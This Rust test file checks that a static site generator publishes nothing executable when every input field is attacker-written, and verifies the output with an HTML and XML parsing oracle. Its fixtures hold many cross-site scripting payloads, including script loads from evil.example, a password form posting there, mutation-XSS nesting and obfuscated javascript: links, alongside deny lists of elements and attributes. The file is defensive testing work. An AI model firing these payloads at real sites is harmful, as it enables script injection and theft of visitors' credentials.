//! An oracle for output: everything that a hostile site publishes is parsed as a browser parses it, and nothing
//! in it acts, leads or asks but what is ours, and the links that the author wrote as links.

use std::collections::BTreeMap;

use html5ever::tendril::TendrilSink as _;
use markup5ever_rcdom::{Handle, NodeData, RcDom};

use crate::{SiteTest, news};

/// Where links of the author lead; nothing else may.
const WRITTEN: &str = "https://good.example/";

/// Everything that a sender may try in a text.
const RAW: &str = r#"
<script>alert(1)</script><script src="https://evil.example/x.js"></script>
<img src="https://evil.example/x.png" onerror="x()"><img src=https://evil.example/x onerror=x()><img srcset="https://evil.example/x.png 1x">
<form action="https://evil.example/"><input name=password><button formaction="javascript:x()">g</button></form>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>x()</script>"></iframe>
<iframe src="https://good.example@evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code=x></applet>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/)}</style>
<svg onload="x()"><script>x()</script><a xlink:href="javascript:x()"><text>h</text></a><use href="https://evil.example/x.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=https://evil.example/x onerror="x()"></style></mglyph></table></mtext></math>
<div style="background:url(https://evil.example/)" onclick="x()" id="main">i</div><video src="https://evil.example/x.mp4" poster="https://evil.example/"></video>
<noscript><p title="</noscript><img src=https://evil.example/x onerror=x()>"></noscript><template><script>x()</script></template>
<textarea><script>x()</script></textarea><title></title><script>x()</script></title><!--><script>x()</script>-->
$\text{" onclick=x() <script>x()</script>}$ $$\href{javascript:x()}{y} \style{background:url(https://evil.example/)}{z}$$ $\color{red}x$
<![CDATA[<script>x()</script>]]> <?xml version="1.0"?> <plaintext>
"#;

/// Addresses that a browser would run; each is refused where it stands.
const LINKS: [&str; 9] = [
    r#"<a href="javascript:x()">a</a>"#,
    r#"<a href="java&#115;cript:x()">b</a>"#,
    r#"<a href="&#1;javascript:x()">c</a>"#,
    r#"<a href=" data:text/html,x">d</a>"#,
    r#"<a href="vbscript:x()">e</a>"#,
    "[f](javascript:x())",
    "[g](data:text/html;base64,x)",
    "[h](JaVaScRiPt&colon;x())",
    "<javascript:x()>",
];

/// What breaks out of a place where it is not expected.
const NASTY: &str = r#""'><script>alert(1)</script><img src=https://evil.example/x onerror=x()>]]>--></title></textarea><svg onload=x()>{{ 7 * 7 }}{% raw %}"#;

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

/// A site whose every text was written by an enemy.
fn hostile() -> SiteTest {
    let nasty = quoted(NASTY);
    let settings = format!(
        "title: {nasty}\nshort_title: {nasty}\ndescription: {nasty}\nbase_url: https://centre.example/imc/\nlanguage: ru\ntheme: imc\n\
         time_zone: Europe/Moscow\norganization:\n  name: {nasty}\n  address: {nasty}\n  hours: {nasty}\n\
         video_hosts: [good.example]\nmenu:\n  - {{title: {nasty}, url: /news/}}\nfooter:\n  - {{title: {nasty}, url: /}}\n"
    );
    let kind = format!(
        "kind: note\nlabel: {nasty}\ntitle: {nasty}\nfolder: notes\naddress: /notes/{{id}}/\ntemplate: news.html\nlist: {{address: /notes/, template: list.html, sort: [title], feed: true}}\nfields:\n  \
         remark: {{type: text, label: {nasty}}}\n  story: {{type: markdown, label: {nasty}}}\n  of: {{type: term, vocabulary: sorts, label: {nasty}}}\n"
    );
    let head = format!("title: {nasty}\nsummary: {nasty}\ntags: [{nasty}, \"<b>\"]\n");
    let story: String = RAW.lines().map(|line| format!("  {line}\n")).collect();
    let note = format!("---\n{head}remark: {nasty}\nof: s\nstory: |\n{story}---\n{RAW}\n");
    let item = format!(
        "items:\n  - id: odin\n    {}\n    date: 20.11.2026\n",
        head.trim_end().replace('\n', "\n    ")
    );
    SiteTest::new()
        .file("content/site.yaml", settings)
        .file("content/kinds/note.yaml", kind)
        .file(
            "content/vocabularies/sorts.yaml",
            format!("vocabulary: sorts\nlabel: {nasty}\nterms:\n  - {{id: s, label: {nasty}}}\n"),
        )
        .file("content/notes/a.md", note)
        .file("content/news/list.yaml", item)
        .file(
            "content/news/b.md",
            news(&nasty, &format!("{RAW}\n\n# {NASTY}\n\n[ссылка]({WRITTEN}) <{WRITTEN}>\n")),
        )
        .file(
            "content/news/c/index.md",
            news("С файлами", "[а](a.svg) ![рисунок](a.svg) [б](b.txt) [в](v.pdf)"),
        )
        .file(
            "content/news/c/a.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><text>&lt;script></text></svg>",
        )
        .file("content/news/c/b.txt", NASTY)
        .file("content/news/c/v.pdf", "%PDF-1.7")
}

#[test]
fn nothing_published_acts_or_leads_elsewhere() {
    let site = hostile();
    site.build().ok();
    let published = site.published();
    let mut offences = Vec::new();
    let mut seen = BTreeMap::new();
    for (path, bytes) in &published {
        if path.split('/').any(|part| part.starts_with('.')) {
            offences.push(format!("{path}: a hidden path"));
        }
        let ending = path.rsplit_once('.').map_or("", |(_, ending)| ending);
        *seen.entry(ending.to_owned()).or_insert(0) += 1;
        match ending {
            "html" => html(path, bytes, &mut offences),
            "xml" | "svg" => xml(path, bytes, &mut offences),
            "json" => drop(serde_json::from_slice::<serde_json::Value>(bytes).unwrap()),
            _ => {}
        }
    }
    assert!(offences.is_empty(), "\n{}\n", offences.join("\n"));
    // The oracle has seen what it judges.
    for ending in ["html", "xml", "svg", "json", "txt", "pdf"] {
        assert!(seen.contains_key(ending), "no .{ending} among {seen:?}");
    }
    let page = String::from_utf8_lossy(&published["news/b/index.html"]).into_owned();
    assert!(page.contains(&format!("href=\"{WRITTEN}\"")), "the author's own link is gone");
}

#[test]
fn addresses_that_act_are_refused_where_they_stand() {
    for link in LINKS {
        let site = SiteTest::new().file("content/news/a.md", news("Новость", link));
        let said = site.problems();
        assert!(
            said.iter().any(|one| one.starts_with("error ") && one.contains("content/news/a.md:5")),
            "{link}: {said:?}"
        );
    }
}

#[test]
fn the_oracle_sees_what_must_not_be() {
    for text in [
        "<script>x()</script>",
        "<script src='https://evil.example/x.js'></script>",
        "<script type='application/ld+json'>x()</script>",
        "<script type='application/ld+json' src='/x.js'>{}</script>",
        "<p onclick=x()>",
        "<svg><a xlink:href='javascript:x()'/></svg>",
        "<form action='https://evil.example/'>",
        "<img src='//evil.example/x'>",
        "<a href='java\nscript:x()'>",
        "<a href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=/'>",
        "<base href='/'>",
        "<iframe srcdoc='x'></iframe>",
        "<style>@import 'x'</style>",
        "<template><script>x()</script></template>",
        "<div style='background:url(//evil.example)'>",
    ] {
        let mut offences = Vec::new();
        html("a.html", text.as_bytes(), &mut offences);
        assert!(!offences.is_empty(), "{text}");
    }
}

/// Judges a page.
fn html(path: &str, bytes: &[u8], offences: &mut Vec<String>) {
    let options = html5ever::ParseOpts {
        // As a browser with scripts, for which the inside of <noscript> is text.
        tree_builder: html5ever::tree_builder::TreeBuilderOpts {
            scripting_enabled: true,
            ..Default::default()
        },
        ..Default::default()
    };
    let page = html5ever::parse_document(RcDom::default(), options).from_utf8().one(bytes);
    let mut waiting: Vec<Handle> = vec![page.document.clone()];
    while let Some(node) = waiting.pop() {
        waiting.extend(node.children.borrow().iter().cloned());
        if let NodeData::Element { name, attrs, template_contents, .. } = &node.data {
            waiting.extend(template_contents.borrow().iter().cloned());
            let attributes: Vec<(String, String)> = attrs
                .borrow()
                .iter()
                .map(|one| (one.name.local.to_string(), one.value.to_string()))
                .collect();
            if name.local == *"script" && is_data(&node, &attributes) {
                continue;
            }
            let mut found = element(&name.local, &attributes);
            found
                .iter_mut()
                .for_each(|one| *one = format!("{path}: {one} in <{} {attributes:?}>", name.local));
            offences.append(&mut found);
        }
    }
}

/// Whether a `script` element is a block of data that says of itself that it is JSON-LD and is: nothing in it runs.
fn is_data(node: &Handle, attributes: &[(String, String)]) -> bool {
    let mut text = String::new();
    for child in node.children.borrow().iter() {
        let NodeData::Text { contents } = &child.data else { return false };
        text.push_str(&contents.borrow());
    }
    let declared = attributes.iter().map(|(name, value)| (name.as_str(), value.as_str()));
    declared.eq([("type", "application/ld+json")]) && serde_json::from_str::<serde_json::Value>(&text).is_ok()
}

fn element(name: &str, attributes: &[(String, String)]) -> Vec<String> {
    let value =
        |wanted: &str| attributes.iter().find(|(name, _)| name == wanted).map(|(_, value)| value.as_str());
    let mut found = Vec::new();
    match name {
        "script" if !value("src").is_some_and(|src| src.starts_with("/imc/assets/")) => {
            found.push("a script that is not ours".to_owned());
        }
        "base" | "object" | "embed" | "applet" | "style" | "frame" | "frameset" | "portal" => {
            found.push("an element that must not be".to_owned());
        }
        // Formulas draw and do nothing: what else a browser knows of MathML is not published.
        "annotation" | "annotation-xml" | "semantics" | "maction" | "mglyph" | "merror" | "mstyle" => {
            found.push("an element of MathML that must not be".to_owned());
        }
        "meta" if value("http-equiv").is_some_and(|kind| kind != "Content-Security-Policy") => {
            found.push("an order to the browser".to_owned());
        }
        _ => {}
    }
    for (attribute, value) in attributes {
        let bad = match attribute.as_str() {
            name if name.starts_with("on") => true,
            "style" | "srcdoc" | "ping" | "background" | "data" | "poster" | "formaction" => true,
            "href" if name == "a" => {
                !(is_ours(value) || value.starts_with(WRITTEN) || is_address_of_person(value))
            }
            "href" | "src" | "action" | "xlink:href" | "content-url" => {
                !is_ours(value) && !is_frame(name, value)
            }
            "srcset" | "imagesrcset" => value.split(',').any(|one| !is_ours(one)),
            _ => false,
        };
        if bad {
            found.push(format!("{attribute}={value:?}"));
        }
    }
    found
}

/// An address below the site, as a browser reads it.
fn is_ours(value: &str) -> bool {
    let bare: String =
        value.trim().chars().filter(|c| !c.is_control()).collect::<String>().replace('\\', "/");
    if let Some(rest) = bare.strip_prefix("https://centre.example/") {
        return rest.starts_with("imc/");
    }
    let scheme = bare.split(['/', '?', '#']).next().unwrap_or_default().contains(':');
    !scheme && !bare.starts_with("//")
}

fn is_address_of_person(value: &str) -> bool {
    value.starts_with("mailto:") || value.starts_with("tel:")
}

fn is_frame(element: &str, value: &str) -> bool {
    element == "iframe" && value.starts_with(WRITTEN)
}

/// Judges a feed, a map of the site, a drawing.
fn xml(path: &str, bytes: &[u8], offences: &mut Vec<String>) {
    let text = std::str::from_utf8(bytes).unwrap();
    let document = roxmltree::Document::parse(text).unwrap_or_else(|error| panic!("{path}: {error}"));
    for node in document.descendants() {
        if node.is_pi() || node.tag_name().name() == "script" {
            offences.push(format!("{path}: <{}>", node.tag_name().name()));
        }
        for one in node.attributes() {
            let link = matches!(one.name(), "href" | "src")
                && !is_ours(one.value())
                && !one.value().starts_with("http://www.w3.org/");
            if link || one.name().starts_with("on") {
                offences.push(format!("{path}: {}={:?}", one.name(), one.value()));
            }
        }
        // The content of a feed's entry is a page in itself.
        let is_page = node.attribute("type") == Some("html");
        if let Some(inner) = node.text().filter(|_| is_page) {
            html(path, inner.as_bytes(), offences);
        }
    }
}
